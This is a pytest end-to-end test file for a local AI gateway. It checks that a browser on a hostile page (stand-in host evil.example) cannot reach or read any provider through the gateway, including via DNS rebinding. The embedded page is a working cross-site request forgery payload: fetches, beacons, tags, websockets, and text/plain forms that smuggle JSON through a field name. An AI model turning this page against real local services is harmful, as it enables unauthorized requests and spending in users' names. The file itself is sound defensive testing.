"""A real browser on a hostile page: whatever the page tries against the gateway, no provider hears of it."""

import json
from typing import Any

import pytest

from korproxy_addons.errors.catalogue import HOST_REFUSED, ORIGIN_REFUSED
from support.asking import question
from support.browser import browsing, needs_browser
from support.gateway import SimulatedGateway
from support.listener import Answer, Listener
from support.waiting import until

pytestmark = pytest.mark.e2e

HOSTILE = "evil.example"
PROMPT = "spend-the-users-money"
PAGE = """<!doctype html><meta charset=utf-8><title>harmless</title><body><script>
const targets = TARGETS, body = JSON.stringify(BODY), path = PATH, read = [];
const waits = [];
const attempt = (name, work) => waits.push(work().then(
  text => read.push(name + ": " + text), error => read.push(name + ": refused " + error.name)));
const loaded = element => new Promise(done => {
  element.onload = () => done("loaded"); element.onerror = () => done("refused");
  document.body.append(element);
});
const submit = (target, method, enctype) => {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  const form = document.createElement("form"), field = document.createElement("input");
  Object.assign(form, {action: target + path, method, enctype, target: frame.name});
  // as text/plain, `name=value` is JSON of the attacker's choice
  field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}';
  form.append(field);
  const sent = loaded(frame);
  document.body.append(form);
  form.submit();
  return sent;
};
for (const target of targets) {
  const url = target + path, plain = {"content-type": "text/plain"};
  const post = {method: "POST", body};
  attempt(target + " cors get", async () => (await fetch(target + "/v1/models")).text());
  attempt(target + " cors json", async () => (await fetch(url, {...post,
    headers: {"content-type": "application/json", authorization: "Bearer x"}})).text());
  attempt(target + " cors plain", async () => (await fetch(url, {...post, headers: plain})).text());
  attempt(target + " credentials", async () => (await fetch(url, {...post, credentials: "include"})).text());
  attempt(target + " opaque", async () => {
    const reply = await fetch(url, {...post, mode: "no-cors", headers: plain});
    return "opaque " + reply.type + reply.status + await reply.text();
  });
  attempt(target + " opaque get", async () => (await fetch(target + "/v1/models", {mode: "no-cors"})).text());
  attempt(target + " beacon", async () => "sent " + navigator.sendBeacon(url, body));
  for (const tag of ["img", "script", "iframe"]) attempt(target + " " + tag, async () =>
    loaded(Object.assign(document.createElement(tag), {src: target + "/v1/models?" + tag})));
  attempt(target + " style", async () => loaded(Object.assign(
    document.createElement("link"), {rel: "stylesheet", href: target + "/v1/models?style"})));
  for (const [method, enctype] of [["get", "text/plain"], ["post", "text/plain"],
    ["post", "application/x-www-form-urlencoded"], ["post", "multipart/form-data"]])
    attempt(target + " form " + method + enctype, () => submit(target, method, enctype));
  attempt(target + " websocket", () => new Promise((done, failed) => {
    const socket = new WebSocket(target.replace("http", "ws") + "/v1/responses");
    socket.onopen = () => done("open"); socket.onerror = () => failed(new Error());
  }));
}
Promise.allSettled(waits).then(() =>
  fetch("/report", {method: "POST", body: JSON.stringify({expected: waits.length, read,
    frames: Array.from(document.querySelectorAll("iframe"), it => {
      try { return it.contentDocument && it.contentDocument.body.innerText; } catch { return null; }
    })})}));
</script></body>"""


HTML = (("content-type", "text/html; charset=utf-8"),)
# Of each kind of attempt one request arrives at least; a browser may leave out what it has asked for already.
ATTEMPTS = 14


@pytest.fixture(autouse=True)
def _has_browser() -> None:
    needs_browser()


def refused(gateway: SimulatedGateway, code: str) -> int:
    """How many requests were refused with this code."""
    lines = gateway.gateway.log_lines()
    return sum(it["event"] == "exchange finished" and it["code"] == code for it in lines)


@pytest.mark.parametrize("name", ["127.0.0.1", HOSTILE], ids=["another port", "another name"])
def test_a_hostile_page_reaches_no_provider(engine: SimulatedGateway, name: str) -> None:
    """Fetches of every kind, images, scripts, frames, forms, sockets: all arrive, none gets through, none is read."""
    port = engine.gateway.port
    asked = question("openai-chat", "qwen3.8-max", PROMPT)
    before = {it: refused(engine, it) for it in (HOST_REFUSED.code, ORIGIN_REFUSED.code)}
    with Listener() as server, Listener() as unguarded:
        hosts = ("127.0.0.1", "localhost", HOSTILE)
        targets = [unguarded.url, *(f"http://{host}:{port}" for host in hosts)]
        page = PAGE.replace("TARGETS", json.dumps(targets)).replace("PATH", json.dumps(asked.path))
        page = page.replace("BODY", json.dumps(asked.body))
        server.pages = {"/": Answer(200, page.encode(), HTML)}
        with browsing(f"http://{name}:{server.port}/", {HOSTILE: "127.0.0.1"}):
            report = json.loads(server.wait("/report").body)
            for code, count in ((ORIGIN_REFUSED.code, 2 * ATTEMPTS), (HOST_REFUSED.code, ATTEMPTS)):
                until(lambda: refused(engine, code) >= before[code] + count)  # noqa: B023 - called at once
    # The page is as hostile as it means to be: without a guard a request arrives that a provider would answer.
    bodies = [it.body for it in unguarded.heard if it.method == "POST"]
    assert len(unguarded.heard) >= ATTEMPTS
    assert sum(PROMPT in json.dumps(json_or_none(body)) for body in bodies) >= 4
    assert engine.sim.ledger.entries == []
    assert len(report["read"]) == report["expected"]
    for line in report["read"]:
        target, outcome = line.split(" ", 1)
        if target != unguarded.url:
            assert outcome.endswith((
                "refused", "refused TypeError", "refused Error",  # no answer at all
                "opaque opaque0", "opaque get: ", "beacon: sent true",  # sent, with nothing to read
                "iframe: loaded", "text/plain: loaded", "urlencoded: loaded", "form-data: loaded",
            )), line  # fmt: skip
    assert not any(report["frames"]), "a frame showed its content"


def json_or_none(body: bytes) -> Any:
    """The body as JSON, if it is any."""
    try:
        return json.loads(body)
    except ValueError:
        return None


@pytest.mark.parametrize(
    ("way", "host", "path", "code"),
    [
        ("typed", "127.0.0.1", "/v1/models", ORIGIN_REFUSED.code),
        ("led", "localhost", "/v1beta/models?key=x", ORIGIN_REFUSED.code),
        ("typed", HOSTILE, "/", HOST_REFUSED.code),
        ("led", HOSTILE, "/v1/models", HOST_REFUSED.code),
    ],
)
def test_no_provider_answers_a_navigation(
    engine: SimulatedGateway, way: str, host: str, path: str, code: str
) -> None:
    """Typed by the user or opened by a page, under our name or a rebound one."""
    before = refused(engine, code)
    url = f"http://{host}:{engine.gateway.port}{path}"
    with Listener() as server:
        leads = f"<!doctype html><script>location.href = {json.dumps(url)}</script>"
        server.pages = {"/": Answer(200, leads.encode(), HTML)}
        start = url if way == "typed" else f"http://{HOSTILE}:{server.port}/"
        with browsing(start, {HOSTILE: "127.0.0.1"}):
            until(lambda: refused(engine, code) > before)
    assert engine.sim.ledger.entries == []
